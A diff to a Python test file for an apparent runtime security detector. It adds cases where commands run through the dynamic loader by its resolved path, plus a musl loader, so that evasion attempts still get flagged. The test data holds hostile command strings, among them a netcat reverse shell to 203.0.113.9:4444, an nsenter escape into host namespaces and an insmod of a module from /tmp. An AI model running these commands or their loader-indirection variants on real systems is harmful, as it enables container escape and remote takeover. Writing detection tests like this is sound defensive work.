@@ -750,6 +750,15 @@ def test_exec_flood_does_not_detach_a_local_session_broke() -> None:
         ),
         ("/lib64/ld-linux-x86-64.so.2", "--argv0 ls /sbin/insmod /tmp/r.ko", "kernel-module-tool"),
         ("/lib64/ld-linux-x86-64.so.2", "--inhibit-cache /usr/bin/unshare -r", "unshare-tool"),
+        # the loader by its real file's name: Tetragon reports the resolved path, and on
+        # Debian 11 /lib64/ld-linux-x86-64.so.2 links to ld-2.31.so
+        ("/lib/x86_64-linux-gnu/ld-2.31.so", "/usr/bin/nsenter -t 1 -a sh", "nsenter-target"),
+        (
+            "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+            "/sbin/insmod /tmp/r.ko",
+            "kernel-module-tool",
+        ),
+        ("/lib/ld-musl-armhf.so.1", "/usr/bin/unshare -r", "unshare-tool"),
         ("/bin/busybox", "unshare -r sh", "unshare-tool"),
         ("/bin/busybox", "nc 203.0.113.9 4444 -e /bin/sh", "reverse-shell-netcat"),
         ("/bin/busybox", "insmod /tmp/r.ko", "kernel-module-tool"),
